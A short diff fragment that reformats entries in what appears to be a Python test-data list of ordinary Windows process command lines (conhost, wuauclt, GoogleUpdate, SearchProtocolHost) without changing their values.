     C("conhost.exe 0xffffffff -ForceV1"),
-    C('"wuauclt.exe" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId '
-      "e396fc5e-a5c5-4589-8b56-7124f33ee1a9 /RunHandlerComServer"),
+    C(
+        '"wuauclt.exe" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId '
+        "e396fc5e-a5c5-4589-8b56-7124f33ee1a9 /RunHandlerComServer"
+    ),
     C('"GoogleUpdate.exe" /ua /installsource core'),
-    C('"SearchProtocolHost.exe" "Software\\Microsoft\\Windows Search" '
-      '"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" '
-      '"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"  "1"',
-      windows_path="C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc"),
+    C(
+        '"SearchProtocolHost.exe" "Software\\Microsoft\\Windows Search" '
+        '"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" '
+        '"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"  "1"',
+        windows_path="C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc",
+    ),
 ]
